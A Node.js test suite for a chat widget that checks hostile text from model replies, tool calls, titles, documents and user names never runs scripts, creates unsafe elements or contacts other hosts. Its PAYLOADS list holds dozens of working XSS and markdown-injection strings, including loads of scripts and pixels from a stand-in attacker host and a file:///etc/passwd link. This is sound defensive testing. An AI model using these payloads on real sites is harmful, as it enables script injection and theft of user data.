// Texts that try to become code: said by the model, returned by tools, in titles, documents, sources and names. Nothing
// may execute, nothing may be asked of another host, and no element or address may come of them.

import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";

import { World } from "./widget.world.mjs";

/** Every one calls `trap` or fetches from another host, if anything lets it. */
export const PAYLOADS = [
  "<script>trap(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<ScRiPt>trap(1)</sCrIpT>",
  "<<script>trap(1)//<</script>",
  "<script/x>trap(1)</script>",
  "</p><script>trap(1)</script>",
  "</textarea><script>trap(1)</script>",
  "<img src=x onerror=trap(1)>",
  "<img src=https://evil.example/pixel.png>",
  "<img/src/onerror=trap(1)>",
  "<img src=x onerror\n=trap(1)>",
  "<IMG SRC=`javascript:trap(1)`>",
  '<img """><script>trap(1)</script>">',
  "<img srcset='https://evil.example/s.png 2x'>",
  "<svg onload=trap(1)>",
  "<svg><script>trap(1)</script></svg>",
  "<svg><animate onbegin=trap(1) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:trap(1)'><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=trap(1)>#x'></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.trap(1)</script>'></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=trap(1)&gt;'>",
  "<body onload=trap(1)>",
  "<iframe src=javascript:trap(1)></iframe>",
  "<iframe srcdoc='<script>parent.trap(1)</script>'></iframe>",
  "<object data=javascript:trap(1)></object>",
  "<embed src=https://evil.example/x.swf>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=prefetch href=https://evil.example/p>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<div style='background:url(https://evil.example/b.png)'>x</div>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<form action=javascript:trap(1)><button autofocus>x</button></form>",
  "<input autofocus onfocus=trap(1)>",
  "<details open ontoggle=trap(1)>",
  "<video><source onerror=trap(1)></video>",
  "<audio src=https://evil.example/a.mp3 autoplay>",
  "<marquee onstart=trap(1)>x</marquee>",
  "<template><script>trap(1)</script></template>",
  "<copilotd-chat base-url=https://evil.example></copilotd-chat>",
  "<slot name=x onslotchange=trap(1)></slot>",
  "[a](javascript:trap(1))",
  "[a](JaVaScRiPt:trap(1))",
  "[a](javascript&colon;trap(1))",
  "[a](javascript&#58;trap(1))",
  "[a](&#x6A;avascript:trap(1))",
  "[a](java\\script:trap(1))",
  "[a](<javascript:trap(1)>)",
  "[a](<java\tscript:trap(1)>)",
  "[a]( javascript:trap(1) 'x')",
  "[a](vbscript:trap(1))",
  "[a](data:text/html;base64,PHNjcmlwdD50cmFwKDEpPC9zY3JpcHQ+)",
  "[a](data:text/html,<script>trap(1)</script>)",
  "[a](blob:https://acme.example/x)",
  "[a](file:///etc/passwd)",
  "[a](filesystem:https://acme.example/temporary/x)",
  "[a](//evil.example/x)",
  "[a](https://acme.example@evil.example/ 'x\" onmouseover=\"trap(1)')",
  '[a"onmouseover="trap(1)](https://help.acme.example/")',
  "[\u202emoc.emca//:sptth](https://help.acme.example/x)",
  "[a](https://help.acme.example/\u202egnp.exe)",
  "![a](https://evil.example/pixel.png?secret=1)",
  "![a](javascript:trap(1))",
  '![a" onerror="trap(1)](x)',
  "![a](data:image/svg+xml,<svg onload=trap(1)>)",
  "[![a](https://evil.example/p.png)](javascript:trap(1))",
  "<javascript:trap(1)>",
  "<data:text/html,trap(1)>",
  "javascript:trap(1)",
  "```html\n<script>trap(1)</script>\n```",
  '```"onclick="trap(1)\ncode\n```',
  "`<img src=x onerror=trap(1)>`",
  "| <script>trap(1)</script> | [x](javascript:trap(1)) |\n|---|:-:|\n| <img src=x onerror=trap(1)> | ![](https://evil.example/t.png) |",
  "- [ ] <script>trap(1)</script>\n- [x](javascript:trap(1))",
  "> <img src=x onerror=trap(1)>",
  "# <svg/onload=trap(1)>",
  "[ref]\n\n[ref]: javascript:trap(1)",
  "&lt;script&gt;trap(1)&lt;/script&gt;",
  "&#60;img src=x onerror=trap(1)&#62;",
  "${trap(1)} {{constructor.constructor('trap(1)')()}} <%= trap(1) %> #{trap(1)}",
  "{{trap(1)}} [[trap(1)]",
  "\u0000<script\u0000>trap(1)</script>",
  "\ufeff<script>trap(1)</script>",
  "＜script＞trap(1)＜/script＞",
  "\ud83d<img src=x onerror=trap(1)>",
  '__proto__ constructor toString [a](constructor) {"__proto__":{"tag":"script"}}',
  '{"tag":"script","attrs":{"src":"https://evil.example/x.js"},"children":["trap(1)"]}',
  "{tag:x, dangerouslySetInnerHTML: {__html: '<img src=x onerror=trap(1)>'}}",
];

const TAGS = new Set(
  (
    "a article aside blockquote br button code dd del details div dl dt em footer form h2 h3 h4 h5 h6 header hr i img input label li " +
    "nav ol p path pre q section span strong summary svg table tbody td textarea th thead time tr ul"
  ).split(" "),
);

describe("the widget and hostile texts", { timeout: 180_000 }, () => {
  const world = new World();
  before(() => world.start());
  after(() => world.stop());

  const clean = async (chat) => {
    await chat.page.waitForTimeout(300);
    const found = await chat.page.evaluate(() => ({
      executed,
      elements: [...root().querySelectorAll("*")].map((element) => ({
        tag: element.localName,
        handlers: [...element.attributes]
          .map(({ name }) => name)
          .filter((name) => /^on|^style$|^srcdoc$|^action$|^formaction$/.test(name)),
        address: element.getAttribute("href") ?? element.getAttribute("src") ?? element.getAttribute("data"),
      })),
    }));
    assert.deepEqual(found.executed, []);
    for (const { tag, handlers, address } of found.elements) {
      assert.ok(TAGS.has(tag), `an element ${tag}`);
      // The list and the composer set heights of their own.
      assert.deepEqual(
        handlers.filter((name) => name !== "style"),
        [],
        tag,
      );
      if (address !== null) assert.match(address, /^(https:|mailto:)/, `${tag} ${address}`);
      if (tag === "img") assert.fail(`an image of ${address}`);
    }
    chat.clean();
  };

  it("would be caught: a foreign image, a handler, a script", async () => {
    const chat = await world.open({ inline: true, user: "caught" });
    await clean(chat);
    await chat.page.evaluate(() => {
      document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/x" }));
      for (const write of [
        (element) => element.setAttribute("onclick", "trap(1)"),
        (element) => (element.innerHTML = "<b>"),
      ])
        try {
          write(document.createElement("button"));
        } catch {
          // Trusted Types refuse it, and tell of it.
        }
    });
    await chat.page.waitForTimeout(300);
    const told = chat.faults.filter((fault) => fault.startsWith("policy: ")).map((fault) => fault.split(" ")[1]);
    assert.deepEqual(
      told.sort(),
      ["img-src", "require-trusted-types-for", "require-trusted-types-for"],
      chat.faults.join(),
    );
    chat.faults = [];
    await chat.page.evaluate(() => trap(1));
    await assert.rejects(clean(chat));
    await chat.close();
  });

  it("in what the model says, while it streams and when it is complete", async () => {
    const chat = await world.open({ inline: true, height: 700, user: "streams" });
    for (let from = 0; from < PAYLOADS.length; from += 15) {
      const text = PAYLOADS.slice(from, from + 15).join("\n\n");
      await chat.begin();
      // Scripted, because a directive ends at the first `]]`.
      await fetch(`${world.demo.about.sim.openai}/_sim/script`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ match: `payloads ${from}.`, times: 1, steps: [{ text, chunk_chars: 7, pace_ms: 1 }] }),
      });
      await chat.send(`payloads ${from}.`);
      await chat.reached("completed");
      const log = await world.server.log(await chat.conversation(), "streams");
      assert.ok(log.at(-1).text.length > 100, "the model has said it");
      await clean(chat);
      const links = await chat.page
        .locator("copilotd-chat .markdown a")
        .evaluateAll((all) => all.map(({ href, rel, target }) => ({ href, rel, target })));
      for (const { href, rel, target } of links) {
        assert.doesNotMatch(href, /^(javascript|data|vbscript|blob|file)/);
        assert.match(rel, /noopener/);
        assert.equal(target, "_blank");
      }
    }
    await chat.close();
  });

  it("each alone, as what the user wrote and as what the model answered", async () => {
    const inputs = PAYLOADS.map((text) =>
      `[[sim first_ms=0 pace_ms=0 text=${JSON.stringify(text)}]] ${text}`.toWellFormed().replaceAll("\u0000", ""),
    );
    const { id } = await world.server.call("POST", "/v1/conversations", {}, { user: "alone" });
    await world.server.say(id, inputs, "alone");
    const chat = await world.open(
      { inline: true, height: 40_000, user: "alone" },
      { viewport: { width: 900, height: 1000 } },
    );
    await chat.button("Conversations").click();
    await chat.page.locator("copilotd-chat .history .entry").first().click();
    // All of it is in the document: the list is high enough.
    await chat.page.waitForFunction((count) => root().querySelectorAll(".message.user").length >= count, inputs.length);
    await clean(chat);
    // As the user wrote it, to the character.
    const shown = await chat.page
      .locator("copilotd-chat .message.user .plain")
      .evaluateAll((all) => all.map((element) => element.textContent));
    assert.deepEqual(shown, inputs);
    await chat.close();
  });

  it("in tools' arguments and results", async () => {
    const chat = await world.open({ inline: true, user: "tools" });
    await chat.begin();
    for (const payload of [PAYLOADS[0], PAYLOADS[7]]) {
      const args = JSON.stringify({ subject: payload, body: payload, requester_email: "a@b.example" });
      await fetch(`${world.demo.about.sim.openai}/_sim/script`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({
          match: "hostile ticket",
          times: 1,
          steps: [
            { tool_calls: [{ name: "zendesk_create_ticket", arguments: args }] },
            { tool_calls: [{ name: "zendesk_search_tickets", arguments: { query: payload } }] },
            { text: payload },
          ],
        }),
      });
      await chat.begin();
      await chat.send("hostile ticket");
      const group = chat.page.locator("copilotd-chat .approval");
      await Promise.race([group.waitFor(), chat.page.locator("copilotd-chat .tool").first().waitFor()]);
      await clean(chat);
      if (await group.isVisible()) {
        await group.getByRole("button", { name: "Edit" }).click();
        await clean(chat);
        await chat.button("Approve").click();
      }
      await chat.reached("completed");
      for (const summary of await chat.page.locator("copilotd-chat .tool summary").all()) await summary.click();
      const told = await chat.page.locator("copilotd-chat .tool pre").allTextContents();
      assert.ok(told.filter((text) => text.includes(payload)).length >= 3, "in arguments and results");
      await clean(chat);
    }
    await chat.close();
  });

  it("in titles, with every one in the history", async () => {
    const user = "titles";
    for (const title of PAYLOADS.slice(0, 25)) {
      const { id } = await world.server.call("POST", "/v1/conversations", {}, { user });
      await world.server
        .call("PATCH", `/v1/conversations/${id}`, { title: title.slice(0, 200) }, { user })
        .catch((error) => assert.match(String(error), /4\d\d/));
    }
    const chat = await world.open({ inline: true, height: 700, user });
    await chat.button("Conversations").click();
    await chat.page.waitForFunction(() => root().querySelectorAll(".history .entry").length >= 20);
    await clean(chat);
    const titles = await chat.page.locator("copilotd-chat .history .entry-title").allTextContents();
    for (const part of ["<script>", "<svg onload", "<iframe"])
      assert.ok(
        titles.some((title) => title.includes(part)),
        part,
      );
    await chat.panel
      .getByRole("button", { name: /^Rename: </ })
      .first()
      .click();
    await clean(chat);
    await chat.close();
  });

  it("in names of documents, their addresses and their passages", async () => {
    const passage =
      "A hostile parcel <img src=x onerror=trap(1)> reaches the customer within seven working days after it was sent.";
    await world.server.document("<img src=x onerror=trap(1)>".replaceAll(/\W/g, "-"), {
      title: "<img src=x onerror=trap(1)>",
      uri: 'https://help.acme.example/"onclick="trap(1)',
      text: passage,
    });
    for (const uri of ["javascript:trap(1)", "data:text/html,<script>trap(1)</script>"])
      await world.server
        .call(
          "PUT",
          "/v1/knowledge/handbook/documents/bad",
          { title: "Bad", uri, text: "A hostile address reaches nobody at all in seven working days." },
          { scope: "knowledge" },
        )
        .catch((error) => assert.match(String(error), /4\d\d/));
    const chat = await world.open({ inline: true, user: "reader" });
    await chat.begin();
    await chat.send("In how many working days does a hostile parcel reach the customer?");
    await chat.reached("completed");
    const sources = chat.page.locator("copilotd-chat .sources");
    await sources.locator("summary").first().click();
    await sources.getByText("<img src=x onerror=trap(1)>").first().waitFor();
    await clean(chat);
    await chat.close();
  });

  it("in the user's name, the greeting and the starters", async () => {
    const [name] = PAYLOADS;
    const chat = await world.open({ inline: true, user: name, greeting: PAYLOADS[7], starter: PAYLOADS.slice(7, 12) });
    await chat.panel.getByText(PAYLOADS[7], { exact: true }).first().waitFor();
    await clean(chat);
    await chat.close();
  });
});
